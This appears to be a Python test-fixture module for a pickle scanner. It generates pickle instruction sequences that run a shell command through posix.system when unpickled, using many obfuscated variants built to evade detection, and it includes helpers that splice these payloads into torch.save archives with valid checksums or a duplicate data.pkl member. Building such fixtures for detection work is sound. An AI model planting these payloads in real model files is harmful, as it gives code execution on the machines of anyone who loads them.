"""Pickle instructions that act on the machine when they are unpickled, and leave the stack as it was.

Each is a function of a command that leaves a mark: whoever runs it can be told. They are put before, into and behind
the instructions of pickles that torch and the frameworks have written.
"""

from __future__ import annotations

import io
import pickle
import pickletools
import struct
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch
from archives import member_of, rebuilt

Payload = Callable[[str], bytes]


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def name(module: str, attribute: str) -> bytes:
    return f"c{module}\n{attribute}\n".encode()


def call(module: str, attribute: str, *args: bytes) -> bytes:
    return name(module, attribute) + b"(" + b"".join(args) + b"tR"


def _statement(command: str) -> bytes:
    return text(f"__import__('posix').system({command!r})")


class Attack:
    """A value that pickle writes as a call of the shell."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[object, ...]:
        import posix

        return posix.system, (self.command,)


def _saved(command: str) -> bytes:
    """A file of torch.save that acts."""
    stream = io.BytesIO()
    torch.save([1, Attack(command)], stream)
    return stream.getvalue()


def _bytes(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def _mesh(ranks: bytes) -> bytes:
    """A key of a dict: two of one hash are compared by what they hold."""
    return (
        name("torch.distributed.device_mesh", "DeviceMesh")
        + b")\x81}("
        + text("_hash")
        + b"K\x05"
        + text("_flatten_rank_map")
        + ranks
        + b"ubN"
    )


SYSTEM = name("posix", "system")

# What acts as soon as it is unpickled; with the name that a finding must tell.
ACTING: dict[str, tuple[Payload, str]] = {
    "thrown away": (lambda c: SYSTEM + b"(V" + c.encode() + b"\ntR0", "posix.system"),
    "by name from the stack": (
        lambda c: text("builtins") + text("eval") + b"\x93(" + _statement(c) + b"tR0",
        "builtins.eval",
    ),
    "by the name of Python 2": (lambda c: call("__builtin__", "eval", _statement(c)) + b"0", "builtins.eval"),
    "a memo whose harmless name is exchanged": (
        lambda c: name("collections", "OrderedDict") + b"p60001\n0" + SYSTEM + b"p60001\n0g60001\n(" + text(c) + b"tR0",
        "posix.system",
    ),
    "INST": (lambda c: b"(" + text(c) + b"iposix\nsystem\n0", "posix.system"),
    "OBJ": (lambda c: b"(" + SYSTEM + text(c) + b"o0", "posix.system"),
    "NEWOBJ": (
        lambda c: (
            name("subprocess", "Popen") + b"(" + text("true") + b"t\x810" + call("posix", "system", text(c)) + b"0"
        ),
        "subprocess.Popen",
    ),
    "BUILD with __setstate__": (
        lambda c: name("argparse", "Namespace") + b")R}" + text("__setstate__") + SYSTEM + b"sb" + text(c) + b"b0",
        "posix.system",
    ),
    "a pickle in bytes": (
        lambda c: call("torch.storage", "_load_from_bytes", _bytes(_saved(c))) + b"0",
        "posix.system",
    ),
    "pickle.loads": (lambda c: call("_pickle", "loads", _bytes(pickle.dumps(Attack(c), 2))) + b"0", "_pickle.loads"),
    "functools.partial": (lambda c: call("functools", "partial", SYSTEM, text(c)) + b")R0", "functools.partial"),
    "operator.attrgetter": (
        lambda c: (
            call("operator", "attrgetter", text("system"))
            + b"("
            + call("importlib", "import_module", text("posix"))
            + b"tR("
            + text(c)
            + b"tR0"
        ),
        "operator.attrgetter",
    ),
    "operator.methodcaller": (
        lambda c: (
            call("operator", "methodcaller", text("system"), text(c))
            + b"("
            + call("importlib", "import_module", text("posix"))
            + b"tR0"
        ),
        "operator.methodcaller",
    ),
    "getattr": (
        lambda c: (
            call("builtins", "getattr", call("importlib", "import_module", text("posix")), text("system"))
            + b"("
            + text(c)
            + b"tR0"
        ),
        "importlib.import_module",
    ),
    "map in a set": (
        lambda c: call("builtins", "set", call("builtins", "map", SYSTEM, b"(" + text(c) + b"t")) + b"0",
        "posix.system",
    ),
    "runpy": (
        lambda c: (
            call("runpy", "_run_code", call("builtins", "compile", _statement(c), text("x"), text("eval")), b"}") + b"0"
        ),
        "runpy._run_code",
    ),
    "a tuple of calls as a persistent id": (
        lambda c: b"(" + text("storage") + call("posix", "system", text(c)) + b"t0",
        "posix.system",
    ),
    "a function that rebuilds tensors": (
        lambda c: (
            call(
                "torch._tensor",
                "_rebuild_from_type_v2",
                name("builtins", "eval"),
                name("torch", "Tensor"),
                b"(" + _statement(f"{c}; true") + b"t",
                b"}",
            )
            + b"0"
        ),
        "builtins.eval",
    ),
    "behind keywords in a dict of its own class": (
        lambda c: (
            name("argparse", "Namespace")
            + b")"
            + call("collections", "Counter")
            + b"\x920"
            + call("posix", "system", text(c))
            + b"0"
        ),
        "posix.system",
    ),
    "an attribute that append calls": (
        lambda c: (
            name("collections", "OrderedDict")
            + b"}\x85R}"
            + text("append")
            + name("torch.storage", "_load_from_bytes")
            + b"sb"
            + _bytes(_saved(c))
            + b"a0"
        ),
        "torch.storage._load_from_bytes",
    ),
    "an attribute that a comparison calls": (
        lambda c: (
            b"}("
            + _mesh(
                name("torch.distributed.tensor._dtensor_spec", "DTensorSpec")
                + b")\x81}"
                + text("_check_equals")
                + name("torch.storage", "_load_from_bytes")
                + b"sb"
            )
            + _mesh(_bytes(_saved(c)))
            + b"u0"
        ),
        "torch.storage._load_from_bytes",
    ),
    "the base of a reconstructed object": (
        lambda c: (
            call(
                "copyreg",
                "_reconstructor",
                name("argparse", "Namespace"),
                name("builtins", "object"),
                call("posix", "system", text(c)),
            )
            + b"0"
        ),
        "posix.system",
    ),
}

# What acts later, or where the means are there; with the name that a finding must tell.
NAMED: dict[str, tuple[bytes, str]] = {
    "torch.load": (call("torch", "load", text("other.pt")) + b"0", "torch.load"),
    "torch.jit.load": (call("torch.jit", "load", text("other.pt")) + b"0", "torch.jit.load"),
    "torch.hub.load": (call("torch.hub", "load", text("a/b"), text("c")) + b"0", "torch.hub.load"),
    "numpy.load": (call("numpy", "load", text("other.npy")) + b"0", "numpy.load"),
    "numpy.vectorize": (call("numpy", "vectorize", SYSTEM) + b"0", "posix.system"),
    "runpy.run_path": (call("runpy", "run_path", text("other.py")) + b"0", "runpy.run_path"),
    "pip.main": (call("pip", "main", b"](" + text("install") + text("x") + b"e") + b"0", "pip.main"),
    "codecs": (call("codecs", "decode", text("nothing"), text("rot13")) + b"0", "codecs.decode"),
    "copyreg": (
        call("copyreg", "add_extension", text("posix"), text("system"), b"K\x07") + b"0",
        "copyreg.add_extension",
    ),
    "the copyreg registry": (b"\x82\x070", ""),
    "a name through another": (text("posixpath") + text("os.system") + b"\x930", "posixpath.os.system"),
    "a name through torch": (
        text("torch") + text("serialization.os.system") + b"\x930",
        "torch.serialization.os.system",
    ),
    "the default of a dict": (call("collections", "defaultdict", SYSTEM) + b"0", "posix.system"),
    "a default that is allowed elsewhere": (
        call("collections", "defaultdict", name("torch.storage", "_load_from_bytes")) + b"0",
        "collections.defaultdict",
    ),
    "the backward hooks of a tensor": (
        call(
            "torch._utils",
            "_rebuild_parameter",
            b"N",
            b"\x88",
            name("collections", "OrderedDict") + b")R" + b"K\0" + SYSTEM + b"s",
        )
        + b"0",
        "posix.system",
    ),
    "code objects": (call("types", "CodeType", b"K\0") + b"0", "types.CodeType"),
    "marshal": (call("marshal", "loads", _bytes(b"N")) + b"0", "marshal.loads"),
    "a file that is opened": (call("io", "open", text("x"), text("w")) + b"0", "io.open"),
    "a socket": (
        call("socket", "create_connection", b"(" + text("localhost") + b"K\x01t") + b"0",
        "socket.create_connection",
    ),
    "logging": (call("logging", "FileHandler", text("x")) + b"0", "logging.FileHandler"),
    "bytes of a list, as a file of torch.save": (
        call("torch.storage", "_load_from_bytes", call("builtins", "bytes", b"](K\x01e")) + b"0",
        "torch.storage._load_from_bytes",
    ),
    "an array as bytes that are loaded": (
        call("io", "BytesIO", call("numpy", "ndarray", b"K\x01\x85")) + b"0",
        "io.BytesIO",
    ),
    "behind numbers that only C reads": (
        b"I010\n0I\0x\n0I0x10\n0F1\0x\n0\x8b" + struct.pack("<i", 900) + bytes(900) + b"0" + SYSTEM + b")R0",
        "posix.system",
    ),
    "what is only called, kept in a list": (b"](" + name("builtins", "getattr") + b"e0", "builtins.getattr"),
    "what is only called, two tuples deep": (b"]" + name("builtins", "getattr") + b"\x85\x85a0", "builtins.getattr"),
    "attributes as an argument": (
        call("types", "SimpleNamespace", text("__setstate__") + text("a") + b"\x86\x85") + b"0",
        "types.SimpleNamespace",
    ),
    "an array of objects, of bytes": (
        call("numpy._core.multiarray", "_reconstruct", name("numpy", "ndarray"), b"K\0\x85", _bytes(b"b"))
        + b"(K\x01K\x01\x85"
        + call("numpy", "dtype", text("O8"), b"\x89", b"\x88")
        + b"\x89"
        + _bytes(b"A" * 8)
        + b"tb0",
        "numpy._core.multiarray._reconstruct",
    ),
    "a number of an object": (call("builtins", "complex", call("argparse", "Namespace")) + b"0", "builtins.complex"),
    "hooks that come after the tensor": (
        name("collections", "OrderedDict")
        + b")Rp60001\n0"
        + call("torch._utils", "_rebuild_parameter", b"N\x88g60001\n")
        + b"0g60001\nK\1"
        + name("torch.storage", "_load_from_bytes")
        + b"s0",
        "torch.storage._load_from_bytes",
    ),
    "attributes in a dict of another kind": (
        call("argparse", "Namespace") + call("collections", "Counter") + text("__class__") + b"K\1sb0",
        "argparse.Namespace",
    ),
    "an element of objects, of bytes": (
        call("numpy._core.multiarray", "scalar", call("numpy", "dtype", text("O8"), b"\x89", b"\x88"), _bytes(b"A" * 8))
        + b"0",
        "numpy._core.multiarray.scalar",
    ),
    "elements that a call gives, of which there may be any number": (
        call("collections", "deque", call("builtins", "range", b"M\xe8\x03")) + b"0",
        "collections.deque",
    ),
    "a method of an enum's class": (
        call("builtins", "getattr", name("signal", "Signals"), text("mro")) + b"0",
        "builtins.getattr",
    ),
    "a class of nobody": (call("somebody.module", "Thing") + b"0", "somebody.module.Thing"),
    "a class by __new__ with keywords": (
        name("argparse", "Namespace") + b")}" + text("a") + text("b") + b"s\x920",
        "argparse.Namespace",
    ),
    "items of an object": (call("argparse", "Namespace") + text("a") + text("b") + b"s0", "argparse.Namespace"),
    "a call of what is no name": (b"N)R0", ""),
    "a state for a dict": (b"}}b0", ""),
    "a persistent id of text": (b"Pname\n0", ""),
    "a buffer": (b"\x970", ""),
}


def before(data: bytes, payload: bytes) -> bytes:
    """A pickle with the payload as its first instructions."""
    begin = 2 if data[:1] == b"\x80" else 0
    return data[:begin] + payload + data[begin:]


def places(data: bytes) -> list[int]:
    """Where an instruction of a pickle begins: there others can stand that leave the stack as it was."""
    begin = 2 if data[:1] == b"\x80" else 0
    return [at for _, _, at in pickletools.genops(data) if at is not None and at >= begin]


def at(data: bytes, place: int, payload: bytes) -> bytes:
    return data[:place] + payload + data[place:]


def put_before(path: Path, payload: bytes) -> None:
    """The same with the pickle inside a file of torch.save; every checksum fits."""
    content = path.read_bytes()
    path.write_bytes(rebuilt(content, {"data.pkl": before(member_of(content, "data.pkl"), payload)}))


def twice(content: bytes, payload: bytes) -> bytes:
    """An archive with two members called data.pkl, of which the second acts."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(stream, "w") as target:
        root = source.namelist()[0].partition("/")[0]
        for entry in source.infolist():
            target.writestr(entry.filename, member_of(content, entry.filename.partition("/")[2]))
        with warnings.catch_warnings(action="ignore"):  # that the name is there already
            target.writestr(f"{root}/data.pkl", before(member_of(content, "data.pkl"), payload))
    return stream.getvalue()
